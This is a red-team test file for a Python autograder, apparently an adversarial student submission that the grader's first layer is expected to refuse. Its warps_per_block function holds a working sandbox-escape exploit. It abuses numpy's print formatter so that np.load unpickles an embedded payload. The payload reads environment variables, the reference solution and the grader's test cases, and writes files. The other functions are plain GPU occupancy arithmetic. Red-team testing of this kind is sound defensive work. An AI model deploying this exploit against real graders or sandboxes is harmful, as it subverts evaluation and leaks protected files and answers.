# adversarial: (red team of goal 6) a function returns an object array of map objects over
# ndarray.tofile and np.load(path, None, True) after setting numpy's print formatter to a library
# callable: the grader's own repr of the value would have written and unpickled a payload from
# a grader frame. Refused at the first layer (set_printoptions, tofile, load are out of reach).
# adversarial-exercise: occupancy
# adversarial-message: attribute set_printoptions
# kernelgrade-expect: correctness=error
# ATTACK a1 (occupancy, pure Python): run arbitrary code in the grading child, past the parse
# check, the module's own built-ins, the import gate and the audit hook.
# How: numpy's print options are a per-context setting a student may set with an allowed call
# (np.set_printoptions(formatter=...)); the formatter is a *library* callable (`"".join`) applied
# to elements that are `map` objects over library functions (ndarray.tofile, np.load). The
# student function returns an object array; the grader's own run_calls formats it
# (`{value!r:.60}` in its TypeError) -> the formatter runs from a grader frame, so the audit
# hook's "innermost student-or-grader frame" is the grader's: open, import and exec are allowed.
# The payload (payload_info.py, built by mkpickle.py) raises a BaseException subclass so that
# np.load does not wrap it: its text reaches the student as "your function raised P: PWNED ...".
# 1) tofile writes a protocol-0 pickle; 2) np.load(path, None, True) (allow_pickle positional)
# unpickles it: builtins.exec(PAYLOAD) runs with the real built-ins.
import numpy as np

PICKLE = "cbuiltins\nexec\n(Vimport os, sys, json\\u000aclass P(BaseException):\\u000a    pass\\u000ainfo = {}\\u000ainfo['uid'] = os.getuid()\\u000ainfo['cwd'] = os.getcwd()\\u000ainfo['env'] = {k: v for k, v in os.environ.items() if 'KERNEL' in k or 'NUMBA' in k}\\u000adef rd(p):\\u000a    try:\\u000a        return open(p).read()[:200]\\u000a    except Exception as e:\\u000a        return 'ERR ' + type(e).__name__ + ' ' + str(e)[:80]\\u000ainfo['solution'] = rd('/work/main/solutions/occupancy.py')\\u000ainfo['passwd'] = rd('/etc/hostname')\\u000atry:\\u000a    import autograder.grading.driver_occupancy as d\\u000a    info['driver_q'] = 'imported ' + d.__file__\\u000aexcept Exception as e:\\u000a    info['driver_q'] = 'ERR ' + repr(e)[:100]\\u000atry:\\u000a    info['ls_main'] = os.listdir('/work/main')[:30]\\u000aexcept Exception as e:\\u000a    info['ls_main'] = 'ERR ' + repr(e)[:80]\\u000afor p in ('/work/notes/redteam_g6/WRITTEN_BY_CHILD', os.path.expanduser('~/.kg_rt_written'), '/tmp/kg_rt_written'):\\u000a    try:\\u000a        open(p, 'w').write('x')\\u000a        info['write ' + p] = 'OK'\\u000a    except Exception as e:\\u000a        info['write ' + p] = 'ERR ' + type(e).__name__\\u000af = sys._getframe()\\u000areq = None\\u000awhile f is not None:\\u000a    if 'req' in f.f_locals and hasattr(f.f_locals['req'], 'cases'):\\u000a        req = f.f_locals['req']\\u000a    f = f.f_back\\u000aif req is not None:\\u000a    info['req_cases'] = [(c.id, dict(c.params)) for c in req.cases][:30]\\u000a    info['req_fields'] = [k for k in vars(req)] if hasattr(req, '__dict__') else str(type(req))\\u000araise P('PWNED ' + json.dumps(info, default=str))\\u000a\ntR."


def warps_per_block(threads_per_block, warp_size=32):
    if threads_per_block == 12345:
        return 0
    path = "kg_a1.pkl"
    raw = np.array([ord(c) for c in PICKLE], dtype=np.uint8)
    cells = np.empty(2, dtype="O")
    cells[0] = map(str, map(raw.tofile, [path]))
    cells[1] = map(str, map(np.load, [path], [None], [True]))
    np.set_printoptions(formatter={"all": "".join})
    return cells


def resident_blocks_per_sm(threads_per_block, shared_bytes_per_block, max_threads_per_sm,
                           max_blocks_per_sm, shared_bytes_per_sm, warp_size=32):
    threads_held = -(-threads_per_block // warp_size) * warp_size
    by_threads = max_threads_per_sm // threads_held
    by_shared = (shared_bytes_per_sm // shared_bytes_per_block
                 if shared_bytes_per_block else max_blocks_per_sm)
    return min(by_threads, max_blocks_per_sm, by_shared)


def resident_threads_per_sm(threads_per_block, shared_bytes_per_block, max_threads_per_sm,
                            max_blocks_per_sm, shared_bytes_per_sm, warp_size=32):
    return threads_per_block * resident_blocks_per_sm(
        threads_per_block, shared_bytes_per_block, max_threads_per_sm, max_blocks_per_sm,
        shared_bytes_per_sm, warp_size)


def tile_shared_bytes(tile_width, bytes_per_element=4):
    return 2 * tile_width * tile_width * bytes_per_element


def global_traffic_reduction(tile_width):
    return float(tile_width)
